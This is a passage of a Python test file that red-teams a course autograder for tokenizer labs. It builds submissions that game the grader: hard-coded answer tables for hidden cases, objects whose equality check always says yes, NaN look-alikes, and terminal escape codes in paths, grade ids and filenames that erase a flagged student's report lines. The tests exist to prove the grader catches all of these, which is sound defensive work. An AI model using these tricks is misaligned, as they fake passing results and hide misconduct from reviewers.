    letters between its characters (``scattered_text``): no public case's text is found whole, and each copy still
    catches the mistake. Graded on the fixed cases alone, so that nothing else catches it."""
    import random

    from test_mistakes import remote

    graders = importlib.import_module("bpe_ref.course.checks.lab00_pretokenization")
    graded = getattr(graders, task)
    mistake, join = LAB00_CUT[task]
    code = _cut_around_a_case(graded, mistake, join)
    public, copies = _as_written_and_varied(graded)
    rng = random.Random(0)
    around = [case.__class__(graders.around_text(case.args, rng)) for case in public]  # the copies graded before
    name = graded.task.name
    assert remote("00_pretokenization", code, name, _fixed_cases_only(graded, public + around)) is None
    message = remote("00_pretokenization", code, name, _fixed_cases_only(graded, copies))
    assert message is not None and f"{name}(" in message, message


def _answers_at_home(graded, cases) -> dict:
    """The reference's answer to each case, or the error it raises (as lab 09's drivers report it), keyed by its repr."""
    from bpe_ref.course.checks.lab09_benchmarks import value_or_error

    return {repr(case.args): value_or_error(graded.reference, *case.args) for case in cases}


# Lab 09's mistakes (tests/test_mistakes.py) that only a fixed hidden case caught, and how the function sees the case.
LAB09_TABLE = {
    "SPREAD": (("task2_spread_solution", "if middle <= 0:", "if middle == 0:"), "repr(args)"),
    "FIT_EXPONENT": (("task4_fit_exponent_solution", '    if min(sizes) == max(sizes):  # compare the sizes: the mean of '
                      'equal logarithms can round off them\n        raise ValueError("all sizes are equal")\n', ""), "repr(args)"),
    "CROSSOVER": (("task5_crossover_solution", "if any(x0 >= x1 for", "if any(x0 > x1 for"), "repr(args)"),
    "INTERLEAVED": (("task1_interleaved_solution", '    if rounds < 1:\n        raise ValueError(f"rounds must be at least 1, '
                     'got {rounds}")\n', ""), "repr((list(args[0]), args[1]))"),
}


@pytest.mark.parametrize("task", LAB09_TABLE)
def test_a_table_of_lab_09s_fixed_hidden_cases_keeps_no_point_from_them(task):
    """Lab 09's fixed hidden cases hold the edges the generated inputs seldom or never do (a median of 0 or below, all
    sizes equal, a repeated x, rounds below 1), each there for a mistake that only it caught. They were graded as
    written: the mistake, with a table of those cases' answers (or the error to raise) keyed by the input, passed them.
    Safe: each is graded again with its numbers redrawn by one increasing map that keeps 0, signs and ties, and its
    labels renamed (:func:`~bpe_ref.course.checks.lab09_benchmarks.relabelled`): the table misses the copies, which
    still catch the mistake. Graded on the fixed cases alone (interleaved's contenders seen by their labels)."""
    from test_mistakes import remote

    graded = getattr(importlib.import_module("bpe_ref.course.checks.lab09_benchmarks"), task)
    (cell, old, new), key = LAB09_TABLE[task]
    public, copies = _as_written_and_varied(graded)
    if task == "INTERLEAVED":  # the function gets the contenders and the rounds; the cases that raise ValueError (no
        # contenders, rounds below 1: what the mistake misses) are its table; the others it answers as it would
        table = {repr((list(case.args[0]), case.args[2])): "raised ValueError" for case in public
                 if not case.args[0] or case.args[2] < 1}
    else:
        table = _answers_at_home(graded, public)
    name = graded.task.name
    code = _notebook_up_to("09_benchmarks", cell, [(old, new)]) + f'''
_TABLE = {table!r}
_mistaken = {name}


def {name}(*args, **kwargs):
    answer = _TABLE.get({key}, _mistaken)  # a fixed hidden case of the graders (public), answered at home
    if answer is _mistaken:
        return _mistaken(*args, **kwargs)
    if isinstance(answer, str) and answer.startswith("raised "):
        raise {{"ValueError": ValueError, "KeyError": KeyError}}[answer.split()[1]]("a fixed hidden case")
    return answer
'''
    assert remote("09_benchmarks", code, name, _fixed_cases_only(graded, public)) is None
    message = remote("09_benchmarks", code, name, _fixed_cases_only(graded, copies))
    assert message is not None and "raise" in message, message


def test_a_table_of_lab_03s_fixed_hidden_files_keeps_no_point_from_them(tmp_path):
    """Lab 03 task 1's fixed hidden files ask for more chunks than they have bytes, so that every guess is 0: a chunk size
    kept at one byte at least cuts at later tokens, and only these cases show it (the generated files ask for 8 chunks at
    most). With a table of their boundaries keyed by the file's bytes and the arguments, that mistake passed them. Safe:
    each is graded again as a file of two to four of its special tokens with drawn letters between them, more chunks
    than bytes and a drawn buffer (:func:`~bpe_ref.course.checks.lab03_parallel.varied_find`): the table misses it, and
    the mistake fails it. Graded on the fixed cases alone."""
    from test_mistakes import CHUNK_OF_ONE_BYTE_AT_LEAST, remote

    from bpe_ref.course.checks.lab03_parallel import FIND, find_chunk_boundaries

    public, copies = _as_written_and_varied(FIND)
    table = {}
    for case in public:
        file, *rest = case.args
        (tmp_path / "case.txt").write_bytes(file.data)
        table[repr((file.data, *rest))] = find_chunk_boundaries(str(tmp_path / "case.txt"), *rest)
    code = _notebook_up_to("03_parallel", "task1_find_chunk_boundaries_solution", [CHUNK_OF_ONE_BYTE_AT_LEAST]) + f'''
_TABLE = {table!r}
_mistaken = find_chunk_boundaries


def find_chunk_boundaries(path, *rest):
    with open(path, "rb") as file:
        key = repr((file.read(), *rest))
    if key in _TABLE:  # a fixed hidden case of the graders (public), answered at home
        return list(_TABLE[key])
    return _mistaken(path, *rest)
'''
    assert remote("03_parallel", code, "find_chunk_boundaries", _fixed_cases_only(FIND, public)) is None
    message = remote("03_parallel", code, "find_chunk_boundaries", _fixed_cases_only(FIND, copies))
    assert message is not None and "do not make the chunk size at least 1" in message, message


def test_a_table_of_lab_03s_fixed_file_without_special_tokens_keeps_no_point_from_it():
    """Lab 03 task 4's fixed hidden file has no special token at all, for several workers: no cut is safe, so the whole
    file is counted here (the generated files always hold some). A count that goes to the pool all the same (and fails
    on no token to cut at), with a table of that file's counts keyed by its bytes and the arguments, passed it. Safe:
    it is graded again as lines of drawn words, no special token among them, for 2 to 4 workers
    (:func:`~bpe_ref.course.checks.lab03_parallel.varied_file`): the table misses it, and the mistake fails it. Graded on
    that fixed case alone (the TinyStories sample and its copy aside: they hold special tokens)."""
    from test_mistakes import TASK4, remote, source_of

    from bpe_ref.course.checks.lab03_parallel import COUNT_PRETOKENS_IN_FILE as FILE
    from bpe_ref.pretokenize import count_pretokens

    public, copies = _as_written_and_varied(FILE)
    public, copies = ([case for case in cases if not case.args[1]] for cases in (public, copies))
    assert len(public) == len(copies) == 1
    table = {repr((case.args[0].data, *case.args[1:])): count_pretokens(case.args[0].data.decode(), case.args[1])
             for case in public}
    module = source_of("03_parallel", "task2_count_chunk_solution")
    code = ("get_ipython().run_cell_magic('writefile', 'chunk_counting.py', " + repr(module.split("\n", 1)[1])
            + ")\nfrom chunk_counting import count_chunk\n"
            + "import multiprocessing, os\nfrom concurrent.futures import ProcessPoolExecutor\n"
            + "from bpe_ref.pretokenize import count_pretokens\n"
            + "\n".join(source_of("03_parallel", cell) for cell in ("task1_find_chunk_boundaries_solution",
                                                                    "task3_merge_counts_solution", TASK4))
            .replace("    if num_workers == 1 or not special_tokens:\n", "    if num_workers == 1:\n") + f'''
_TABLE = {table!r}
_mistaken = count_pretokens_in_file


def count_pretokens_in_file(path, *rest):
    with open(path, "rb") as file:
        key = repr((file.read(), *rest))
    if key in _TABLE:  # a fixed hidden case of the graders (public), answered at home
        return dict(_TABLE[key])
    return _mistaken(path, *rest)
''')
    assert remote("03_parallel", code, "count_pretokens_in_file", _fixed_cases_only(FILE, public)) is None
    message = remote("03_parallel", code, "count_pretokens_in_file", _fixed_cases_only(FILE, copies))
    assert message is not None and "raised ValueError" in message, message


def _lab_00_and_09_mistakes() -> list[tuple[str, str, str, tuple]]:
    """(lab, task declaration, cell, changes) of every mistake of labs 00 and 09 in tests/test_mistakes.py's tables."""
    from test_mistakes import LAB00_MISTAKES, LAB00_ROUND2, LAB09_ROUND3, THIRD_ROUND

    tasks = {"utf8_bytes": "UTF8_BYTES", "split_on_special_tokens": "SPLIT", "pretokenize": "PRETOKENIZE",
             "count_pretokens": "COUNT_PRETOKENS", "interleaved": "INTERLEAVED", "spread": "SPREAD",
             "paired_ratio": "PAIRED_RATIO", "fit_exponent": "FIT_EXPONENT", "crossover": "CROSSOVER",
             "peak_memory": "PEAK_MEMORY"}
    mistakes = [("00_pretokenization", cell, ((old, new),)) for cell, old, new, _ in {**LAB00_MISTAKES, **LAB00_ROUND2}.values()]
    mistakes += [(lab, cell, changes) for (lab, _), (cell, changes, _) in THIRD_ROUND.items() if lab == "00_pretokenization"]
    mistakes += [("09_benchmarks", cell, changes) for cell, changes, _ in LAB09_ROUND3.values()]
    mistakes += [("09_benchmarks", cell, ((old, new),)) for (cell, old, new), _ in LAB09_TABLE.values()]
    return [(lab, tasks[cell.split("_", 1)[1].removesuffix("_solution")], cell, changes) for lab, cell, changes in mistakes]


@pytest.mark.parametrize("lab", ["00_pretokenization", "09_benchmarks"])
def test_the_varied_copies_alone_catch_every_mistake_their_cases_catch(lab):
    """What the tests above rest on, for every mistake of labs 00 and 09 (tests/test_mistakes.py) that the fixed hidden
    cases as written catch: under each of 3 secret seeds, their varied copies alone catch it too, and the solution passes
    them (graded in process, with the graders' private copy, as tests/test_mistakes.py grades). One of the two labs a
    run by default (lab 09: 15-16 s of CPU under its 3 seeds, 7-8 s under one), under one of the 3 seeds (the copies and the mistakes'
    gradings are a seed's each), both drawn from the run's sample seed; BPE_EXHAUSTIVE=1 takes both labs, every seed."""
    import sys

    from test_mistakes import load_graders, variant_of

    skip_unless_drawn("redteam: the varied copies alone", lab, ["00_pretokenization", "09_benchmarks"])

    from bpe_ref.course.notebooks import solution_namespace

    graders, solutions = load_graders(lab), solution_namespace(lab)
    package = type(graders.LAB).__module__.split(".course")[0]  # the private copy's seed and cases
    verdicts, running = (sys.modules[f"{package}.course.{name}"] for name in ("trusted.verdicts", "checks.running"))

    def fails(graded, function, cases) -> bool:
        try:
            graders.check_cases(graded.task, function, graded.reference, cases)
        except AssertionError:
            return True
        return False

    tasks = {task for mistake_lab, task, _, _ in _lab_00_and_09_mistakes() if mistake_lab == lab}
    seeds = (1, 2, 3) if EXHAUSTIVE else (int(drawn("redteam: the varied copies' secret seed", ("1", "2", "3"))),)
    copies = {}
    for task, seed in itertools.product(sorted(tasks), seeds):
        graded = getattr(graders, task)
        with verdicts.hidden_seed(seed):
            copies[task, seed] = running.varied(graded)[len(graded.hidden_cases):]
        assert not fails(graded, solutions[graded.task.name], copies[task, seed]), (task, seed)
    caught = 0
    for mistake_lab, task, cell, changes in _lab_00_and_09_mistakes():
        if mistake_lab != lab:
            continue
        graded = getattr(graders, task)
        mistaken = variant_of(lab, solutions, cell, graded.task.name, changes)
        if not fails(graded, mistaken, graded.hidden_cases):
            continue  # caught elsewhere (generated inputs, measured checks), not by a fixed case
        caught += 1
        for seed in seeds:
            assert fails(graded, mistaken, copies[task, seed]), (cell, changes, seed)
    assert caught >= {"00_pretokenization": 29, "09_benchmarks": 15}[lab], caught  # as many as now


# ---- 25. the reports print text the submission chose: escape codes that erase its review lines ---------------------
#
# grade --class (and grade, for one notebook) prints, under a flagged student's row, what its code was seen to do and
# what its cells' text suggests: a path it opened that the sandbox refused, as the keeper read it from the caller's
# memory. That is the learner's choice, and a terminal obeys the escape codes in it. (A cell id is printed too, but one
# holding escape codes is no valid notebook: nbgrader refuses it, and the submission shows as not graded.) nbgrader's own
# log, which the instructor reads while autograde runs, printed a grade_id it did not know, codes and all.

# Cursor to the line's start and erase it, then up one line and erase that: twice, so the student's row and its first
# review line go, and a clean row is written in their place.
ERASE_TWO_LINES = r"\r\x1b[2K\x1b[1A\x1b[2K\x1b[1A\x1b[2K"
CLEAN_ROW = "hides_by_path   13 / 13  graded"
HIDDEN_BY_A_PATH = f'''
try:   # refused (Landlock) and counted by the keeper, under the path the cell gave
    open("/etc/{ERASE_TWO_LINES}{CLEAN_ROW}", "w")
except OSError:
    pass
'''
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _with_cell(notebook: dict, cell_id: str, source: str) -> dict:
    from test_grading_adversarial import code_cell as plain_cell

    index = next(i for i, cell in enumerate(notebook["cells"]) if cell["id"] == "setup")
    notebook["cells"].insert(index + 1, plain_cell(cell_id, source))
    return notebook


def hiding_notebook(notebook: dict) -> dict:
    """``notebook`` with both attacks: a cell whose grade_id is escape codes (which nbgrader warns about), and the
    refused open of a path of escape codes that would erase the flag and write a clean row (``hides_by_path``)."""
    notebook = _with_cell(notebook, "unknown", "x = 1\n")
    next(cell for cell in notebook["cells"] if cell["id"] == "unknown")["metadata"]["nbgrader"] = {
        "grade_id": "zz" + ERASE_TWO_LINES.encode().decode("unicode_escape"), "grade": False, "solution": False,
        "locked": False, "schema_version": 3}
    return _with_cell(notebook, "hide", HIDDEN_BY_A_PATH)


def hides_by_path() -> dict:
    """Section 25's student of lab 00's class: the complete solution with both attacks."""
    from test_grading_adversarial import complete

    return hiding_notebook(complete("00_pretokenization"))


# Both attacks are graded where lab 00's solution is graded anyway, so that no grading runs for them alone: the
# self-grade (``python -m bpe_ref grade``) in tests/test_grading_labs.py, whose lab-00 notebook (tests/test_review_flags.py's
# probe) holds them too (test_escape_codes_in_a_path_or_a_grade_id_cannot_erase_the_flag_from_a_self_grade), and the
# class (``nbgrader autograde``, then ``grade --class``) in lab 00's batch of tests/test_grading_adversarial.py, whose
# student hides_by_path is this notebook (test_escape_codes_in_a_path_cannot_erase_the_flags_of_a_class_report).


def test_a_downloaded_file_named_with_escape_codes_cannot_erase_its_line_from_collect(tmp_path, capsys):
    """``python -m bpe_ref collect`` prints a line per downloaded file, named by the learner who uploaded it: a name of
    escape codes erased its own "left out" line (and the one above) from the instructor's terminal. Safe: the lines
    are printed :func:`~bpe_ref.course.printable.shown`."""
    import argparse

    from bpe_ref.course.commands.collect import run

    (tmp_path / "course").mkdir()
    (tmp_path / "course" / "nbgrader_config.py").write_text("c = get_config()\n")
    downloads = tmp_path / "dl"
    downloads.mkdir()
    (downloads / "bob__01_naive_bpe.ipynb").write_text("{}")
    (downloads / ("eve__01_naive_bpe" + ERASE_TWO_LINES.encode().decode("unicode_escape") + ".ipynb")).write_text("{}")
    assert run(argparse.Namespace(downloads=downloads, lab="01_naive_bpe", course=tmp_path / "course")) == 1
    out = capsys.readouterr().out
    assert not CONTROL.search(out) and "eve__01_naive_bpe\\r\\x1b[2K" in out and "left out" in out, repr(out)


# ---- 26. replies equal to the answer by Python's rules, and not the answer ------------------------------------------
#
# The worker sends back JSON, rebuilt into exact builtin types on the trusted side; what is left to a learner who wants
# an answer that compares equal and is not: JSON's own look-alikes (True for 1, 2.0 for 2, -0.0 for 0, NaN, which equals
# nothing), and objects of their own that the wire cannot carry (an int or str subclass whose __eq__ says yes). Each is
# wrapped around the course's solution here, so only the look-alike can fail it, in a self-grade's fresh draw and in a
# class's replay of kept inputs.

LOOK_ALIKES = {
    # lab 01's count_pairs: every count of 1 sent as True (True == 1, and they hash the same)
    "true-for-one": ("01_naive_bpe", "task1_count_pairs_solution", "count_pairs",
                     "\n_right = count_pairs\n\ndef count_pairs(word_counts):\n"
                     "    return {pair: (True if n == 1 else n) for pair, n in _right(word_counts).items()}\n",
                     "is True, expected 1"),
    # lab 01's count_pairs: every count a float (2.0 == 2)
    "floats": ("01_naive_bpe", "task1_count_pairs_solution", "count_pairs",
               "\n_right = count_pairs\n\ndef count_pairs(word_counts):\n"
               "    return {pair: float(n) for pair, n in _right(word_counts).items()}\n", ".0, expected "),
    # lab 01's count_pairs: an int subclass whose __eq__ always says yes (and a fixed count)
    "int-that-equals-all": ("01_naive_bpe", "task1_count_pairs_solution", "count_pairs",
                            "\nclass _Yes(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n\n"
                            "_right = count_pairs\n\ndef count_pairs(word_counts):\n"
                            "    return {pair: _Yes(7) for pair in _right(word_counts)}\n", "returned the wrong type"),
    # lab 00's count_pretokens: a bytes key sent as a str subclass that equals its bytes
    "str-that-equals-bytes": ("00_pretokenization", "task4_count_pretokens_solution", "count_pretokens",
                              "\nclass _Same(str):\n    def __eq__(self, other):\n        return True\n"
                              "    __hash__ = str.__hash__\n\n_right = count_pretokens\n\n"
                              "def count_pretokens(text, special_tokens):\n"
                              "    return {_Same(key.decode('latin-1')): n for key, n in _right(text, special_tokens).items()}\n",
                              "returned the wrong type"),
    # lab 05's heap_entry: NaN in the middle, which makes every comparison of two entries false, "out of order" never true
    "nan-in-the-entry": ("05_heap", "task1_heap_entry_solution", "heap_entry",
                         "\n_right = heap_entry\n\ndef heap_entry(count, pair):\n    entry = _right(count, pair)\n"
                         "    return (entry[0], float('nan'), *entry[1:])\n", "should be smaller than"),
    # lab 05's heap_entry: -count as -0.0 when the count is 0, as a float otherwise
    "count-as-float": ("05_heap", "task1_heap_entry_solution", "heap_entry",
                       "\n_right = heap_entry\n\ndef heap_entry(count, pair):\n    entry = _right(count, pair)\n"
                       "    return (float(entry[0]) or -0.0, *entry[1:])\n", "its first item should be -count"),
    # lab 04's index_words: the id 1 filed as True (a set holds one of them, and they hash the same)
    "id-one-as-true": ("04_inverted_index", "task1_index_words_solution", "index_words",
                       "\n_right = index_words\n\ndef index_words(words):\n    index = _right(words)\n"
                       "    for pair, ids in index.items():\n        if 1 in ids:\n            ids.discard(1)\n"
                       "            ids.add(True)\n    return index\n", "True"),
    # lab 10's merge_two: the sum's counts as floats
    "merged-floats": ("10_distributed", "task2_merge_two_solution", "merge_two",
                      "\n_right = merge_two\n\ndef merge_two(left, right):\n"
                      "    return {key: float(n) for key, n in _right(left, right).items()}\n", ".0, expected "),
}


def _look_alike_code(lab: str, cell: str, wrapper: str) -> str:
    from test_mistakes import source_of

    from bpe_ref.course.notebooks import read_notebook_json, source_notebook

    cells = [c["id"] for c in read_notebook_json(source_notebook(lab))["cells"]
             if c["cell_type"] == "code" and (c["id"] == "setup" or c["id"].endswith("_solution"))]
    return "\n".join(source_of(lab, c) for c in cells[: cells.index(cell) + 1]) + wrapper


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
@pytest.mark.parametrize("kind", list(LOOK_ALIKES))
def test_an_answer_that_only_compares_equal_loses_the_hidden_points(kind, whole_class):
    """Each look-alike of the right answer fails its task's hidden test, in a self-grade's draw and a class's replay,
    with a message that says what came back: the types are compared all the way down, and a subclass never crosses
    the wire (blocked already, kept so). NaN got through: lab 05's heap_entry with NaN after -count kept task 1's
    points in both paths (its visible test failing in the learner's kernel), because json reads every NaN as one
    shared object and a tuple's comparison takes an object for equal to itself, so the grader's entries sorted by the
    items after it, while in the worker's heap (a NaN of its own per entry) every tie compares false both ways and
    heapq pops ties in any order. Safe: :func:`~bpe_ref.course.trusted.worker.wire.decode` rebuilds each NaN as a
    float of its own, as the worker's code sees it."""
    from test_mistakes import remote

    from bpe_ref.course.trusted.verdicts import hidden_seed

    lab, cell, name, wrapper, said = LOOK_ALIKES[kind]
    with hidden_seed(20261129, whole_class=whole_class):
        message = remote(lab, _look_alike_code(lab, cell, wrapper), name, f"check_{name}_properties")
    assert message is not None and said in message, message


def test_entries_that_do_not_order_are_no_heap():
    """The flip side of NaN rebuilt as a float of its own: lab 05's check that pop_best left a heap asked that no parent
    be greater than its child, which entries holding NaN satisfy whatever their order (every comparison is false).
    Safe: each parent must be at most its child, so entries that do not order are no heap."""
    from bpe_ref.course.checks.lab05_heap import heap_entry, observe_pop

    def nan_entry(count, pair):
        entry = heap_entry(count, pair)
        return (entry[0], float("nan"), *entry[1:])

    # Tied counts, the children's pairs to pop before their parent's by the tie-break: no heap, NaN or not.
    for make in (heap_entry, nan_entry):
        entries = [make(3, (b"a", b"a")), make(3, (b"z", b"z")), make(3, (b"y", b"y"))]
        assert observe_pop((entries, {}), ((b"a", b"a"), 0))["entries still a heap"] is False, make.__name__
    assert observe_pop(([heap_entry(3, (b"z", b"z")), heap_entry(3, (b"a", b"a"))], {}), None)["entries still a heap"]


# ---- 27. the fixed hidden cases recognised up to renaming: the generated inputs alone catch what they catch ----------

# The varied copies of the fixed hidden cases (sections 18 and 22 to 24) rename their letters or bytes and put words
# around them, but keep their shape (lengths, which characters repeat where): a submission could still recognise a case
# by its shape and answer it from a renamed table, mistaken elsewhere. The close by design: every mistake a fixed case
# catches is caught by the generated inputs alone too (each task's strategy draws what its cases hold), so the fixed
# cases add no point that a table could keep.

def _fixed_case_mistakes(lab: str) -> list[tuple[str, str, str, tuple | str]]:
    """(label, cell, function, changes or a cell's whole source) of every mistake of ``lab`` in tests/test_mistakes.py:
    its learner rounds' tables (lab 00's and 01's own, and every table :func:`_round_tables` finds) and the mistakes its tests
    write inline, each once."""
    import test_mistakes as tm

    mistakes = []
    own = {"00_pretokenization": {**tm.LAB00_MISTAKES, **tm.LAB00_ROUND2}, "01_naive_bpe": {**tm.LAB01_MISTAKES, **tm.LAB01_ROUND2},
           "10_distributed": tm.LAB10_ROUND2}
    mistakes += [(name, cell, ((old, new),)) for name, (cell, old, new, *_) in own.get(lab, {}).items()]
    if lab == "09_benchmarks":  # those only a fixed case caught once (section 24)
        mistakes += [(name.lower(), cell, ((old, new),)) for name, ((cell, old, new), _) in LAB09_TABLE.items()]
    for table in _round_tables(tm).values():
        mistakes += [(name, cell, tuple(changes)) for (of, name), (cell, changes, *_) in table.items() if of == lab]
    mistakes += {
        "06_encode_decode": [
            ("one-token-at-a-time", "task3_encode_text_solution", tm.ONE_TOKEN_AT_A_TIME),
            ("one-token-at-a-time-as-listed", "task3_encode_text_solution",
             tm.ONE_TOKEN_AT_A_TIME.replace("sorted(special_tokens, key=len, reverse=True)", "special_tokens")),
            ("one-pass-in-the-dicts-order", "task2_encode_pretoken_solution", ((tm.ROUNDS, tm.ONE_PASS_IN_DICT_ORDER),)),
            ("endoftext-always-special", "task3_encode_text_solution", (tm.ALWAYS_EOT,))],
        "07_heap_encoding": [
            ("overlapping-entries-skipped", "task1_first_heap_solution", (tm.OVERLAP_SKIPPED,)),
            ("empty-pretoken-as-one-token", "task3_heap_encode_solution", (tm.EMPTY_AS_ONE_TOKEN,)),
            ("rescans-short-pieces", "task2_merge_all_solution", (("    parts = list(parts)\n", tm.RESCAN_SHORT),)),
            *[(f"lab-06s-way-up-to-{threshold}-bytes", "task3_heap_encode_solution", ((
                "    parts = list(split_into_bytes(pretoken))\n", f"    if len(pretoken) <= {threshold}:\n"
                "        return encode_pretoken(pretoken, ranks)\n    parts = list(split_into_bytes(pretoken))\n"),))
              for threshold in (4, 16)]],
        "08_linear_encoding": [
            ("every-token-a-candidate", "task2_backtrack_encode_solution", ((tm.VALID_FILTER, tm.EVERY_TOKEN),)),
            ("every-token-in-the-table", "task3_last_tokens_solution", ((tm.VALID_FILTER, tm.EVERY_TOKEN),)),
            ("compatible-checks-the-first-token", "task1_compatible_solution", (
                ("return encode_pretoken(left + right, ranks) == [left, right]",
                 "return (left, right) not in ranks and encode_pretoken(left + right, ranks)[:1] == [left]"),))],
        # Those of the tasks with fixed hidden cases (task 1, task 4), measured ones with the right answers aside.
        "03_parallel": [
            ("whole-window-search", "task1_find_chunk_boundaries_solution", ((tm.BOUNDARY_FIND, "window.find(t)"),)),
            ("chunk-of-one-byte-at-least", "task1_find_chunk_boundaries_solution", (tm.CHUNK_OF_ONE_BYTE_AT_LEAST,)),
            ("no-serial-count-without-special-tokens", tm.TASK4, (
                ("    if num_workers == 1 or not special_tokens:\n", "    if num_workers == 1:\n"),))],
        "10_distributed": [(f"range-{name}", "task1_count_range_solution", ((tm.RANGE_WHOLE_FILE[0], new),))
                           for name, new in [("whole-file", tm.RANGE_WHOLE_FILE[1]), ("from-the-start", tm.RANGE_FROM_THE_START)]],
    }.get(lab, [])
    # A round's table and its visible tests' table may hold the same mistake, its changes written alike or not (lab 05's
    # merge-follower-token-kept, with and without the line's indentation): one mistake is one source.
    kept: dict[tuple, tuple] = {}
    for name, cell, changes in mistakes:
        kept.setdefault((name, cell, _changed_source(tm, lab, cell, changes)), (name, cell, changes))
    unique = list(kept.values())
    same_label = sorted({name for name, *_ in unique if sum(other == name for other, *_ in unique) > 1})
    assert not same_label, f"{lab}: two different mistakes named {same_label} (NOT_BY_A_FIXED_CASE is keyed by name)"
    return [(name, cell, cell.split("_", 1)[1].removesuffix("_solution"), changes) for name, cell, changes in unique]


def _changed_source(tm, lab: str, cell: str, changes: tuple | str) -> str:
    """The solution cell's source with ``changes`` made as :func:`test_mistakes.variant_of` makes them (or the source
    the mistake gives whole)."""
    if isinstance(changes, str):
        return changes
    source = tm.source_of(lab, cell)
    for old, new in changes:
        source = source.replace(old, new, 1)
    return source


# Tables of tests/test_mistakes.py shaped as a round's ((lab, name) -> (cell, changes, ...)) that hold no learner mistake.
NOT_A_ROUND = {"HONEST_WALK50B": "honest variants a check must not fail",
               "APART_FROM_SECTION_27": "mistakes only a fixed case catches under some seeds (its comment in tests/test_mistakes.py)"}


def _round_tables(tm) -> dict[str, dict]:
    """Every table of learners' mistakes in tests/test_mistakes.py, found by its shape: a module-level dict keyed by
    (lab, name) whose values start with a solution cell's name and its changes ((old, new) pairs). Found, not listed: a list
    stopped at the round of stop 44 while thirteen rounds (about 380 mistakes) came after it, so no test checked whether a
    fixed case or the generated inputs caught them."""
    tables = {}
    for name, table in vars(tm).items():
        if (name.isupper() and name not in NOT_A_ROUND and isinstance(table, dict) and table
                and all(isinstance(key, tuple) and len(key) == 2 and isinstance(key[0], str) and key[0][:2].isdigit()
                        for key in table)
                and all(isinstance(value, tuple) and len(value) >= 2 and isinstance(value[0], str)
                        and value[0].startswith("task") and isinstance(value[1], tuple)
                        and all(isinstance(change, tuple) and len(change) == 2 for change in value[1])
                        for value in table.values())):
            tables[name] = table
    return tables


def _generated_inputs_of(lab: str):
    """(graders' private copy, the solution's namespace, each task's declarations, generated_fail(function, name, seed),
    mistaken(cell, name, changes)): whether the generated inputs of ``name``'s hidden test alone (every declaration of that task with a
    strategy, without the fixed cases and their copies) fail ``function`` under the secret ``seed``, and a fresh copy of a
    mistake of ``lab`` (tests/test_mistakes.py grades so, in process)."""
    import sys

    from test_mistakes import defined, load_graders, variant_of

    from bpe_ref.course.notebooks import solution_namespace

    graders, solutions = load_graders(lab), solution_namespace(lab)
    package = type(graders.LAB).__module__.split(".course")[0]  # the private copy's seed
    verdicts, running = sys.modules[f"{package}.course.trusted.verdicts"], sys.modules[f"{package}.course.checks.running"]
    declarations: dict[str, list] = {}
    for graded in graders.LAB.tasks:
        declarations[graded.task.name] = [graded] + ([graded.then] if graded.then and graded.then.task.name == graded.task.name
                                                     else [])

    def generated_fail(function, name: str, seed: int) -> bool:
        running.SHRINK = False  # whether an input fails, not the smallest (shrinking took 60% of lab 09's CPU time)
        try:
            with verdicts.hidden_seed(seed):
                return any(_fails(lambda graded=graded: graders.check_property(
                    graded.task, function, graded.reference, graded.strategy, max_examples=graded.max_examples,
                    min_examples=graded.min_examples, noun=graded.noun))
                    for graded in declarations[name] if graded.strategy is not None)
        finally:
            running.SHRINK = True

    def mistaken(cell: str, name: str, changes):
        return defined(solutions, changes, name) if isinstance(changes, str) else variant_of(lab, solutions, cell, name, changes)

    return graders, solutions, declarations, generated_fail, mistaken


def _fails(check) -> bool:
    try:
        check()
    except AssertionError:  # a check that fails (any other error out of a grader is its bug, and fails the test)
        return True
    return False


# Section 27's labs (10 to 40 s of CPU time each): the default run takes one, drawn from the run's sample seed, so that
# runs take turns (tests/sampling.py); BPE_EXHAUSTIVE=1 takes all.
GENERATED_ALONE_LABS = ("00_pretokenization", "01_naive_bpe", "03_parallel", "06_encode_decode", "07_heap_encoding",
                        "08_linear_encoding", "09_benchmarks", "10_distributed")


# The mistakes of each lab that no fixed hidden case catches (the generated inputs do, tests/test_mistakes.py):
# every other mistake of the lab is one its fixed cases catch, so the count the test checks is derived, not a floor that goes stale
# (it said 29 while 53 were caught; 66 with the eighth round's).
NOT_BY_A_FIXED_CASE = {"00_pretokenization": {
    # walk62's lone surrogates encoded silently (a drawn text, after the cases: LAB00_WALK62)
    "utf8-bytes-surrogates-replaced", "utf8-bytes-surrogates-passed", "count-surrogates-ignored",
    "utf8-bytes-surrogates-escaped",
    # walk58's answers kept from call to call (checks/kept.py's call, after the cases: KEPT_ANSWERS)
    "utf8-cached-shared-list", "count-cached-shared-dict",
    # walk58's passes per item (measured growth, after the cases: LAB00_GROWTH_58)
    "utf8-a-list-copied-at-each-character", "utf8-lists-summed", "split-finds-every-token-again-after-each-cut",
    "pretokenize-piece-sliced-after-each-match", "count-a-counter-added-per-pretoken",
    # novel48: caught by hidden checks drawn from the seed (tokens in another case, whitespace pieces, a measured count)
    "split-ignoring-case", "pretokenize-skips-blank-pieces", "count-by-list-count",
    "split-at-a-marker-character",
    "split-of-empty-text-gives-no-piece", "newlines-stripped", "utf8-of-the-stripped-text", "utf8-with-line-ends-normalized",
    "split-of-the-stripped-text", "pattern-spaces-of-any-number-before-a-word",
    "pattern-lookahead-of-a-space", "pattern-contractions-without-d-and-m", "count-of-the-stripped-text",
    "count-without-a-last-newline", "split-no-tokens-told-by-none", "split-no-tokens-returns-the-text",
    "pretokens-flattened-with-sum",
    # walk55's quadratic split and count (measured growth: tests/test_mistakes.py, LAB00_WALK55_GROWN)
    "split-going-on-with-the-rest", "count-a-new-dict-each-pretoken",
    # the rounds from the seventh on that a list of tables left out (_round_tables finds them since; lead53)
    "split-no-tokens-no-pieces",
    "count-by-list-count-per-piece"},  # walk60: one long piece (LAB00_WALK60)
    # labs 01 and 03 derived so too: their floors said 14 and 7 (9 with lab 03's pools) where 21 and 17 were caught
    "01_naive_bpe": {
    # walk58's answers kept from call to call (checks/kept.py's call, after the cases: KEPT_ANSWERS)
    "train-merges-in-one-list-reused", "count-one-dict-reused",
    # walk59's quadratic in one word's length (measured growth, after the cases: LAB01_WALK59)
    "count-each-distinct-pair-by-list-count", "merge-popped-from-the-front",
    "merge-spliced-in-place",  # walk60 (LAB01_WALK60)
    "train-goes-on-when-no-pair-is-left",  # walk61 (LAB01_WALK61): a drawn call of 10**7 merges
    # walk58's passes per item (measured growth, after the cases: LAB01_GROWTH)
